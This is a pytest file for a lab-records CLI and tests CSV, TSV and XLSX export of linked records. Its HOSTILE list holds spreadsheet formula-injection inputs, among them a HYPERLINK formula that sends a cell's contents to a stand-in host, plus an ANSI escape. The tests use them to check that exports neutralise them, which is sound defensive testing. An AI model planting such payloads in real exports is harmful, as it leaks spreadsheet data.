"""`get -o csv`: a table of live records, through what they refer to and what is inside them."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import httpx
import pytest
from hypothesis import given
from hypothesis import strategies as st

from stemctl.cli.screen import Screen
from stemctl.errors import StemctlError
from stemctl.sheets.read_csv import read_csv
from stemctl.sheets.write_sheet import write_sheet
from tests.support.edition_2026 import begin
from tests.support.lab import Lab, Result

HOSTILE = [
    '=HYPERLINK("http://x/?"&A1,"y")',
    "+1",
    "-1",
    "-",
    "@SUM(1)",
    "'quoted",
    'a "b"; c, d',
    "two\nlines",
    "tab\there",
    " spaces ",
    "é ü 漢字 \U0001f400",
    "\x1b[31mred",
    "007",
    "true",
    "a;b",
]

RECORDS = """\
sessions:
  - name: wednesday
    projects: [Theta, Delta]
    date_time: 2024-03-12T09:00:00+01:00
    tags: [b, a, "semi;colon"]
    extra_fields: {room: B115, weight: 7, code: "70"}
    download_links:
      - {repository: DANDI, url: "https://dandiarchive.org/dandiset/1"}
      - {repository: GitHub, url: "https://github.com/lab/data"}
      - {repository: DANDI, url: "https://dandiarchive.org/dandiset/2"}
    behaviors:
      - {key: one, subjects: [rat12], setup: Maze room, behavioralassay: Forced alternation}
      - {key: two, subjects: [rat12, rat13], setup: Maze room, behavioralassay: Forced alternation}
    data_acquisitions:
      - {key: probe, type: ExtracellularEphys, details: {sr: 30 kHz}}
      - {key: sound, type: Audio, details: {sr: 44 kHz}}
subjects:
  - {name: rat13, projects: [Theta], strain: Long Evans, sex: F}
"""


@pytest.fixture
def full(lab: Lab) -> Lab:
    begin(lab)
    lab.write("records/more.yaml", RECORDS)
    lab.apply()
    return lab


def table(result: Result, delimiter: str = ",") -> list[dict[str, str]]:
    """The rows of a table as any reader of CSV sees them."""
    assert result.code == 0, result.said
    return list(csv.DictReader(io.StringIO(result.out, newline=""), delimiter=delimiter))


def row(lab: Lab, columns: str, model: str = "session", name: str = "wednesday") -> list[str]:
    """The cells of one record."""
    (found,) = table(lab.run("get", model, name, "-o", "csv", "--columns", columns))
    return list(found.values())


def test_columns_through_relations(full: Lab) -> None:
    assert row(full, "name, date_time, behaviors.subjects.name, behaviors.setup.name, tags") == [
        "wednesday",
        "2024-03-12T08:00:00Z",
        "rat12;rat13",
        "Maze room",
        'b;a;"semi;colon"',
    ]
    assert row(full, "projects,projects.name,behaviors.subjects.sex,behaviors.subjects.strain") == [
        "Theta;Delta",
        "Theta;Delta",
        row(full, "behaviors.subjects.sex")[0],
        "Long Evans",
    ]
    assert sorted(row(full, "dataacquisition.type")[0].split(";")) == [
        "Audio",
        "ExtracellularEphys",
    ]
    assert sorted(row(full, "data_acquisitions.details.sr")[0].split(";")) == ["30 kHz", "44 kHz"]
    assert row(full, "extra_fields.room, extra_fields.weight, extra_fields.code") == [
        "B115",
        "7",
        "'70",
    ]
    assert row(full, "download_links.DANDI, download_links.GitHub, Download Links.url") == [
        "https://dandiarchive.org/dandiset/1;https://dandiarchive.org/dandiset/2",
        "https://github.com/lab/data",
        "https://dandiarchive.org/dandiset/1;https://github.com/lab/data;"
        "https://dandiarchive.org/dandiset/2",
    ]
    assert row(full, "sessions.behaviors.setup", "project", "Theta") == ["Maze room"]
    assert row(full, "key, behaviors") == [
        "wednesday",
        "wednesday/one;wednesday/two",
    ] or row(full, "behaviors") == ["wednesday/two;wednesday/one"]


def test_entries_are_inside_their_logs(lab: Lab) -> None:
    begin(lab)
    lab.write(
        "records/logs.yaml",
        """\
        subject_logs:
          - key: w
            subject: rat12
            type: Weighing
            entries:
              - {date_time: 2024-03-13T08:00:00Z, details: {weight: 315 g}}
              - {date_time: 2024-03-12T08:00:00Z, details: {weight: 312 g}}
        """,
    )
    lab.apply()
    columns = "subject, type, entries.date_time, entries.details.weight"
    (found,) = table(lab.run("get", "subjectlog", "-o", "csv", "--columns", columns))
    assert list(found.values()) == [
        "rat12",
        "Weighing",
        "2024-03-12T08:00:00Z;2024-03-13T08:00:00Z",
        "312 g;315 g",
    ]


def test_without_columns_the_fields_that_a_manifest_has(full: Lab) -> None:
    rows = table(full.run("get", "session", "-o", "csv"))
    assert [each["name"] for each in rows] == ["monday", "tuesday", "wednesday"]
    assert list(rows[0]) == [
        "name",
        "projects",
        "date_time",
        "extra_fields.code",
        "extra_fields.room",
        "extra_fields.weight",
        "download_links.DANDI",
        "download_links.GitHub",
        "tags",
    ]
    assert rows[0]["date_time"] == ""
    assert table(full.run("get", "session", "-o", "tsv"), "\t") == rows
    recordings = table(full.run("get", "dataacquisition", "-o", "csv"))
    assert {each["key"]: each["details.sr"] for each in recordings} == {
        "wednesday/probe": "30 kHz",
        "wednesday/sound": "44 kHz",
    }


def test_each_other_model_is_listed_once(full: Lab) -> None:
    columns = (
        "name, projects, projects.description, behaviors.subjects.name, behaviors.subjects.strain, "
        "behaviors.setup, data_acquisitions.type"
    )
    assert full.run("get", "session", "-o", "csv", "--columns", columns).code == 0
    paths = [sent.path for sent in full.requests]
    assert len(paths) == len(set(paths)) == 7
    assert {sent.method for sent in full.requests} == {"GET"}
    full.run("get", "session", "-o", "csv", "--columns", "name, tags, key")
    assert len(full.requests) == 1


def test_the_order_is_that_of_get(full: Lab) -> None:
    rows = table(full.run("get", "session", "-o", "csv", "--sort", "-name", "--columns", "name"))
    assert [each["name"] for each in rows] == ["wednesday", "tuesday", "monday"]
    filtered = full.run("get", "session", "-o", "csv", "--filter", "name.startswith=t")
    assert [each["name"] for each in table(filtered)] == ["tuesday"]


@pytest.mark.parametrize(
    ("columns", "said"),
    [
        ("nane", "Did you mean name?"),
        ("behaviors.subject", "Did you mean behaviors.subjects?"),
        ("behaviors.subjects.nam", "Did you mean behaviors.subjects.name?"),
        ("data_acquisitions.details.nChanels", "Did you mean data_acquisitions.details.nChannels"),
        ("name.first", "session.name has no parts"),
        ("name,", "A column has no name"),
        ("", "A column has no name"),
        ("name, tags, name", "name more than once"),
        ("links", "session has no field 'links'"),
        ("behaviors.key", "behavior has no field 'key'"),
    ],
)
def test_columns_that_do_not_exist(full: Lab, columns: str, said: str) -> None:
    result = full.run("get", "session", "-o", "csv", "--columns", columns)
    assert result.code == 1
    assert said in result.err
    assert result.out == ""
    assert full.requests == []


def test_options_that_do_not_go_together(full: Lab) -> None:
    for words in (
        ["session", "--columns", "name"],
        ["-o", "csv"],
        ["session", "-o", "csv", "--include", "behaviors"],
    ):
        assert full.run("get", *words).code == 1
        assert full.requests == []


def test_no_text_is_run_by_a_spreadsheet(lab: Lab) -> None:
    begin(lab)
    text = json.dumps(
        {"sessions": [{"name": f"s{n:02}", "projects": ["Theta"]} for n in range(len(HOSTILE))]}
    )
    lab.write("records/s.yaml", text)
    lab.apply()
    for session in lab.run("get", "session", "-o", "json").json:
        if session["name"][1:].isdigit():
            value = HOSTILE[int(session["name"][1:])]
            body = {"description": value, "extra_fields": {"note": value}, "tags": [value]}
            lab.api("PATCH", f"stem/session/{session['id']}/", body)
    held = {s["name"]: s for s in lab.run("get", "session", "-o", "json").json}
    rows = table(lab.run("get", "session", "-o", "csv"))
    for each in rows:
        for name in ("description", "extra_fields.note", "tags"):
            assert each[name][:1] not in {"=", "+", "-", "@", "\t", "\r"}
        live = held[each["name"]]["description"]
        assert each["description"].removeprefix("'") == live or each["description"] == live


def test_a_terminal_does_not_obey() -> None:
    class Terminal(io.StringIO):
        encoding = "utf-8"

        def isatty(self) -> bool:
            return True

    with contextlib.redirect_stdout(Terminal()) as shown:
        Screen().data(b"a,\x1b[31mred\n")
    assert shown.getvalue() == "a,\\x1b[31mred\n"


def test_a_record_that_cannot_be_seen_is_told(full: Lab) -> None:
    def without_rat13(request: httpx.Request, response: httpx.Response) -> httpx.Response:
        if not request.url.path.endswith("/stem/subject/"):
            return response
        body: Any = response.json()
        body["subjects"] = [each for each in body["subjects"] if each["name"] != "rat13"]
        for name in ("count", "total_results"):
            if name in body.get("meta", {}):
                body["meta"][name] = 1
        return httpx.Response(200, json=body)

    full.after = without_rat13
    result = full.run("get", "session", "-o", "csv", "--columns", "name, behaviors.subjects.name")
    assert "rat12" in result.out
    assert "rat13" not in result.out
    assert "1 record that others refer to cannot be seen" in result.err


def test_what_may_not_be_listed_leaves_ids(full: Lab) -> None:
    def no_projects(request: httpx.Request) -> httpx.Response | None:
        if request.url.path.endswith("/stem/project/"):
            return httpx.Response(403, json={"detail": "no"})
        return None

    full.intercept = no_projects
    result = full.run("get", "session", "-o", "csv", "--columns", "name, projects")
    assert result.code == 0
    assert "Theta" not in result.out
    assert "You may not list project" in result.err
    through = full.run("get", "session", "-o", "csv", "--columns", "projects.description")
    assert through.code == 1


def test_xlsx_is_a_workbook(full: Lab) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    data = _binary(full.root, "get", "session", "-o", "xlsx", "--server", "sandbox")
    rows = list(openpyxl.load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("name", "projects", "date_time")
    assert rows[3][:3] == ("wednesday", "Theta;Delta", "2024-03-12T08:00:00Z")


def _binary(root: Path, *words: str) -> bytes:
    command = [sys.executable, "-m", "stemctl", "-C", str(root), *words]
    return subprocess.run(command, capture_output=True, check=True).stdout


CELL = st.one_of(st.text(max_size=8), st.sampled_from(HOSTILE), st.integers(-9, 9))


@given(st.integers(1, 4).flatmap(lambda n: st.lists(st.tuples(*[CELL] * n), min_size=1)))
def test_any_cells_are_read_again(rows: list[tuple[str | int, ...]]) -> None:
    """Also cells with separators, quotes and line ends, by our reader and by Python's."""
    texts = [[str(cell).encode("utf-8", "replace").decode() for cell in line] for line in rows]
    titles = [f"t{number}" for number in range(len(rows[0]))]
    for output_format, delimiter in (("csv", ","), ("tsv", "\t")):
        data = write_sheet(output_format, titles, rows)
        read = list(csv.reader(io.StringIO(data.decode(), newline=""), delimiter=delimiter))
        assert read == [titles, *texts]
        assert b"\xef\xbb\xbf" not in data[:3]
        if not any("\0" in cell for line in texts for cell in line):
            sheet = read_csv(data, "x.csv", tabs=output_format == "tsv")
            kept = [line for line in texts if any(cell.strip() for cell in line)]
            assert [
                list(each.cells) for each in sheet.rows if any(map(str.strip, each.cells))
            ] == kept


@given(st.lists(st.one_of(CELL, st.just("_x0041_")), min_size=1, max_size=4))
def test_texts_of_excel_are_no_formulas(cells: list[str | int]) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    titles = [f"t{number}" for number in range(len(cells))]
    try:
        data = write_sheet("xlsx", titles, [cells])
    except StemctlError:  # a control character
        return
    book = openpyxl.load_workbook(io.BytesIO(data))
    (line,) = list(book.active.iter_rows(min_row=2)) or [()]
    for cell, text in zip(line, cells, strict=False):
        assert cell.data_type != "f"
        if text != "":
            assert str(cell.value).splitlines() == str(text).splitlines()


def test_what_excel_cannot_hold_is_refused(lab: Lab) -> None:
    pytest.importorskip("openpyxl")
    with pytest.raises(StemctlError, match=r"U\+0007: row 2, column a"):
        write_sheet("xlsx", ["a"], [["\a"]])
    with pytest.raises(StemctlError, match="32,767"):
        write_sheet("xlsx", ["a"], [["x" * 32_768]])


def test_without_openpyxl_it_says_what_to_install(
    full: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    result = full.run("get", "session", "-o", "xlsx")
    assert result.code == 1
    assert "pip install 'stemctl[xlsx]'" in result.err
